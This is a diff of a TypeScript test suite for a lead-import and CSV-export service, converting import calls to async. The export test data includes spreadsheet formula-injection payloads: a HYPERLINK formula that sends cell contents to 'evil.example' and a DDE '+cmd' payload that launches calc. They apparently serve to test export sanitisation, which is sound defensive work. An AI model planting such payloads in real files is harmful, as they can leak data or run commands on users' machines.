@@ -42,9 +42,9 @@ function thrown(run: () => unknown): unknown {
 }
 
 describe("revealImportedRows: the server checks every row again", () => {
-  it("refuses unsupported rows by row number, counts duplicates once and keeps names, company and personIds", () => {
+  it("refuses unsupported rows by row number, counts duplicates once and keeps names, company and personIds", async () => {
     const sdr = app.createUser("sdr");
-    const created = importAs(sdr, {
+    const created = await importAs(sdr, {
       fileName: "leads.csv",
       rows: [
         { row: 2, linkedinUrl: "https://www.linkedin.com/in/import-jane/", firstName: " Jane ", lastName: "Doe", company: "Acme GmbH" },
@@ -76,9 +76,9 @@ describe("revealImportedRows: the server checks every row again", () => {
     expect(typeof saved[1]?.personId).toBe("string");
   });
 
-  it("keeps a valid personId that sits beside a valid LinkedIn URL, as the upload's report does", () => {
+  it("keeps a valid personId that sits beside a valid LinkedIn URL, as the upload's report does", async () => {
     const sdr = app.createUser("sdr");
-    const created = importAs(sdr, {
+    const created = await importAs(sdr, {
       rows: [
         { row: 2, linkedinUrl: "https://www.linkedin.com/in/import-both/", personId: ` ${PERSON_ID}7 ` },
         { row: 3, linkedinUrl: "https://www.linkedin.com/in/import-bad-id/", personId: "12" },
@@ -90,9 +90,9 @@ describe("revealImportedRows: the server checks every row again", () => {
     expect(badId).toMatchObject({ key: "li:https://www.linkedin.com/in/import-bad-id/", personId: null });
   });
 
-  it("throws unprocessable when no row can be revealed, and the schema caps a file at 100,000 rows", () => {
+  it("throws unprocessable when no row can be revealed, and the schema caps a file at 100,000 rows", async () => {
     const sdr = app.createUser("sdr");
-    const error = thrown(() => importAs(sdr, { rows: [{ row: 2, linkedinUrl: SALES_NAV }, { row: 3, company: "Acme" }] }));
+    const error = await importAs(sdr, { rows: [{ row: 2, linkedinUrl: SALES_NAV }, { row: 3, company: "Acme" }] }).catch((caught: unknown) => caught);
     expect(error).toBeInstanceOf(AppError);
     expect(error).toMatchObject({ code: "unprocessable", details: { refused: [{ row: 2 }, { row: 3 }] } });
     expect((error as AppError).message).toContain("None of the 2 rows");
@@ -106,12 +106,12 @@ describe("revealImportedRows: the server checks every row again", () => {
     expect(count(batches)).toBe(0);
   });
 
-  it("creates a 10,000-row import in one call, with the ledger applied to every row", () => {
+  it("creates a 10,000-row import in one call, with the ledger applied to every row", async () => {
     const { db } = app;
     const teammate = app.createUser("sdr");
     const rows = Array.from({ length: 10_000 }, (_, i) => ({ row: i + 2, linkedinUrl: `https://www.linkedin.com/in/bulk-person-${i}/`, company: `Company ${i}` }));
     const inFlight = submit(db, teammate, [5, 5_000, 9_999].map((i) => entryFor(rows[i]!.linkedinUrl)));
-    const created = importAs(app.createUser("sdr"), { fileName: "big.csv", rows });
+    const created = await importAs(app.createUser("sdr"), { fileName: "big.csv", rows });
     expect(created).toMatchObject({ total: 10_000, queued: 9_997, attached: 3, cached: 0, duplicates: 0, refused: [] });
     expect(db.select({ n: sql<number>`count(*)` }).from(reveals).where(eq(reveals.batchId, created.batchId)).get()?.n).toBe(10_000);
     expect(count(contacts)).toBe(10_000);
@@ -119,17 +119,17 @@ describe("revealImportedRows: the server checks every row again", () => {
     expect(attached.map((row) => row.source).sort()).toEqual([...inFlight.revealIds].sort());
   });
 
-  it("is all or nothing: a row that fails to save leaves no batch, reveal or contact behind", () => {
+  it("is all or nothing: a row that fails to save leaves no batch, reveal or contact behind", async () => {
     const { db } = app;
     const rows = Array.from({ length: 2_000 }, (_, i) => ({ row: i + 2, linkedinUrl: `https://www.linkedin.com/in/atomic-${i}/` }));
     // A real constraint failure deep in the import (row 1,500, chunk 3), raised by SQLite itself on this connection.
     db.$client.exec(`CREATE TEMP TRIGGER refuse_one BEFORE INSERT ON main.contacts WHEN NEW.key = 'li:https://www.linkedin.com/in/atomic-1500/'
       BEGIN SELECT RAISE(ABORT, 'refused by the test'); END`);
     const before = { batches: count(batches), reveals: count(reveals), contacts: count(contacts) };
-    expect(() => importAs(app.createUser("sdr"), { rows })).toThrow("refused by the test");
+    await expect(importAs(app.createUser("sdr"), { rows })).rejects.toThrow("refused by the test");
     expect({ batches: count(batches), reveals: count(reveals), contacts: count(contacts) }).toEqual(before);
     db.$client.exec("DROP TRIGGER refuse_one");
-    expect(importAs(app.createUser("sdr"), { rows }).total).toBe(2_000);
+    expect((await importAs(app.createUser("sdr"), { rows })).total).toBe(2_000);
   });
 });
 
@@ -142,7 +142,7 @@ describe("exportBatchCsv", () => {
     await revealNow(app, earlier.revealIds);
 
     const companies = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"];
-    const created = importAs(sdr, {
+    const created = await importAs(sdr, {
       fileName: "export.csv",
       rows: [
         { row: 2, linkedinUrl: found, company: companies[0] },
@@ -203,7 +203,7 @@ describe("exportBatchCsv", () => {
 
   it("exports a batch only for its owner and managers: another SDR gets not_found", async () => {
     const owner = app.createUser("sdr");
-    const { batchId } = importAs(owner, { rows: [{ row: 2, linkedinUrl: "https://www.linkedin.com/in/export-private/", company: "Private" }] });
+    const { batchId } = await importAs(owner, { rows: [{ row: 2, linkedinUrl: "https://www.linkedin.com/in/export-private/", company: "Private" }] });
     const refused = thrown(() => exportBatchCsv(app.db, batchId, app.createUser("sdr")));
     expect(refused).toBeInstanceOf(AppError);
     expect(refused).toMatchObject({ code: "not_found" });
@@ -216,9 +216,9 @@ describe("exportBatchCsv", () => {
   it("streams a big batch a page at a time: every person once, in file order, none of the batches beside it", async () => {
     const sdr = app.createUser("sdr");
     const rowsOf = (prefix: string, n: number) => Array.from({ length: n }, (_, i) => ({ row: i + 2, linkedinUrl: `https://www.linkedin.com/in/${prefix}-${i}/` }));
-    importAs(sdr, { rows: rowsOf("stream-before", 3) });
-    const { batchId } = importAs(sdr, { rows: rowsOf("stream", 4_500) });
-    importAs(sdr, { rows: rowsOf("stream-after", 3) });
+    await importAs(sdr, { rows: rowsOf("stream-before", 3) });
+    const { batchId } = await importAs(sdr, { rows: rowsOf("stream", 4_500) });
+    await importAs(sdr, { rows: rowsOf("stream-after", 3) });
 
     const reader = exportBatchCsv(app.db, batchId, sdr).body.getReader();
     const chunks: Uint8Array[] = [];
